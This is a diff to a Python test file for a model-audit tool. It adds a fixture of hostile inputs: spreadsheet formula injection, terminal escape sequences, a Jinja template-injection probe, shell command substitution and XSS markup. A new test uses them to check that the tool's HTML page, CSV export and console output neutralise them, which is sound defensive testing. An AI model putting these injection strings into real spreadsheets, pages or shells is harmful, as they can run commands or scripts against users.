@@ -1,5 +1,6 @@
 """An audit of tiny random models: what it measures, what it keeps, and what it refuses, each by name."""
 
+import csv
 import json
 import math
 import shutil
@@ -41,6 +42,13 @@ def world(tmp_path_factory) -> Path:
     raw["tasks"]["colours"] |= {"test": 12, "chance": 0.0}  # a chance of 0 is below whatever a random model scores
     raw["tasks"]["sums"] = raw["tasks"]["colours"] | {"rows": {"jsonl": str(ROWS / "sums.jsonl")}, "test": 10}
     raw["tasks"]["colours"] = raw["tasks"]["colours"] | {"rows": {"jsonl": str(ROWS / "colours.jsonl")}}
+    (root / "hostile.jsonl").write_text("".join(json.dumps(row) + "\n" for row in hostile()))
+    raw["tasks"]["hostile"] = raw["tasks"]["colours"] | {
+        "test": 24,
+        "task": raw["tasks"]["colours"]["task"] | {"doc_to_text": "{{question}}"},
+        "rows": {"jsonl": str(root / "hostile.jsonl")},
+        "probe": 0,
+    }
     raw["domains"]["sums"] |= {"rows": {"jsonl": str(ROWS / "sums.jsonl")}}
     raw["general"] |= {"rows": {"jsonl": str(ROWS / "text.jsonl")}, "test": 8}
     YAML().dump(raw, root / "params.yaml")
@@ -51,6 +59,24 @@ def world(tmp_path_factory) -> Path:
     save(build("llama", seed=0, num_hidden_layers=1), root / "shallow")
     adapter(root / "base", root / "adapter")
     return root
+
+
+HOSTILE = (
+    '=HYPERLINK("http://example.org/?"&A1)',
+    "@SUM(1)|cmd",
+    "+1",
+    "-2\r=3",
+    "\t=\x1b]52;c;ZXZpbA==\x07\x1b[2J{{ cycler.__init__.__globals__.os }}",
+    "$(touch trap) `touch trap`; ![x](http://example.org/a.png) {{7*7}} ${x}",
+)
+MARKUP = "</p><script>alert(1)</script><img src=x onerror=alert(1)>"
+
+
+def hostile() -> list[dict]:
+    return [
+        {"question": f"{text}{MARKUP} {number}", "choices": [f"{text}a", f"{text}b"], "gold": number % 2}
+        for number, text in enumerate(HOSTILE * 4)
+    ]
 
 
 def save(model, folder: Path, tokenizer=None) -> Path:
@@ -455,6 +481,22 @@ def test_the_page_is_one_file_and_flips_are_beside_it_with_their_text(world, cap
     assert "FAIL  forgetting" in said and "Does not pass." in text
     first = found["flips"][0]
     assert first["question"].splitlines()[0] in text
+
+
+def test_hostile_questions_reach_neither_the_page_nor_a_spreadsheet_nor_the_screen(world, capsys):
+    _, found = run(world, "base", "other", tasks="hostile")
+    said = capsys.readouterr().out
+    page, file = (world / "pages" / f"base-other.{end}" for end in ("html", "flips.csv"))
+    texts = {flip[key] for flip in found["flips"] for key in ("question", "right", "tuned")}
+    assert len(found["flips"]) > 1 and {text.strip()[0] for text in texts} <= set("=@+-$")
+    with file.open(newline="") as rows:
+        cells = [cell for row in csv.reader(rows) for cell in row]
+    assert not [cell for cell in cells if cell.lstrip()[:1] in ("=", "@") or cell[:1] in ("+", "\t", "\r")]
+    assert not [cell for cell in cells if cell.startswith("-2")] and any(cell.startswith("'") for cell in cells)
+    shown = page.read_text(encoding="utf-8").partition("</style>")[2]
+    assert "<script" not in shown and "<img" not in shown and "&lt;script&gt;alert(1)" in shown
+    assert "\x1b" not in said and "\x07" not in said
+    assert not list(world.rglob("trap")) and "49" not in "".join(texts)
 
 
 def test_a_name_of_params_yaml_is_its_converted_model(world):
